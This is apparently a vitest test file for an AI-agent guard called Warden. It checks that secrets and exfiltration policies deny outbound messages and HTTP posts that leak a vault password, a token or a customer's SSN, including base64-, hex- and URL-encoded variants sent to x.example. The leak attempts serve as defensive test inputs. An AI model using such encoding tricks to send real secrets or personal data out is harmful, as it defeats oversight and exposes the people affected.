// docs/recipes.md: every recipe policy passes its own tests:, and the detections the secrets and
// exfiltration recipes rely on stop what they promise, through a real Warden.
import { readdirSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import type { JsonValue } from "../../src/json.js";
import { loadPolicyFile, runPolicyTests } from "../../src/policy/index.js";
import { openWarden } from "../helpers.js";

const dir = fileURLToPath(new URL("../../examples/recipes/", import.meta.url));
const recipes = readdirSync(dir).filter((f) => f.endsWith(".yaml"));

describe("recipes", () => {
  it.each(recipes)("%s passes its own tests", async (file) => {
    const policy = await loadPolicyFile(join(dir, file));
    const results = runPolicyTests(policy);
    expect(results.length).toBeGreaterThanOrEqual(4);
    expect(results.filter((r) => !r.ok)).toEqual([]);
  });

  it("docs/recipes.md shows each recipe file", async () => {
    const doc = await readFile(fileURLToPath(new URL("../../docs/recipes.md", import.meta.url)), "utf8");
    expect(recipes.length).toBe(7);
    for (const file of recipes) expect(doc).toContain(`examples/recipes/${file}`);
  });

  /** A session of `agent` under a recipe whose `read` returned `result`; the effect of `tool(args)`. */
  async function afterRead(file: string, agent: string, read: string, result: JsonValue) {
    const { warden } = await openWarden(join(dir, file));
    const s = await warden.session({ agent, onBehalfOf: "u@example.com", intent: "work" });
    const d = await s.check(read, { id: 42 });
    expect(d.effect).toBe("allow");
    await s.recordOutcome(d.callId, { status: "ok", result });
    return async (tool: string, args: JsonValue) => (await s.check(tool, args)).effect;
  }

  it("secrets.yaml: what the vault returned never leaves, however it is written", async () => {
    const send = await afterRead("secrets.yaml", "deploy-bot", "vault_read", {
      password: "Tr0ub4dor&3-prod",
    });
    expect(await send("post_message", { text: "deployed v1.2" })).toBe("allow");
    expect(await send("post_message", { text: "db password is Tr0ub4dor&3-prod" })).toBe("deny");
    expect(await send("http_post", { body: Buffer.from("pw=Tr0ub4dor&3-prod").toString("base64") })).toBe(
      "deny",
    );
    expect(
      await send("http_post", { url: `https://x.example/?p=${encodeURIComponent("Tr0ub4dor&3-prod")}` }),
    ).toBe("deny");
    expect(await send("post_message", { text: "token ghp_abcdefghijklmnopqrstuvwxyz0123456789" })).toBe(
      "deny",
    );
  });

  it("exfiltration.yaml: confidential values never leave; anything outbound after a read asks", async () => {
    const send = await afterRead("exfiltration.yaml", "support-bot", "read_customer", {
      name: "Ann Example",
      email: "ann@customer.example",
      ssn: "078-05-1120",
    });
    expect(await send("post_message", { text: "ticket closed" })).toBe("ask");
    expect(await send("post_message", { text: "SSN 078-05-1120" })).toBe("deny");
    expect(await send("http_post", { data: Buffer.from("078-05-1120").toString("hex") })).toBe("deny");
    expect(await send("send_email", { to: "ANN@customer.example", body: "hello" })).toBe("deny");
  });
});
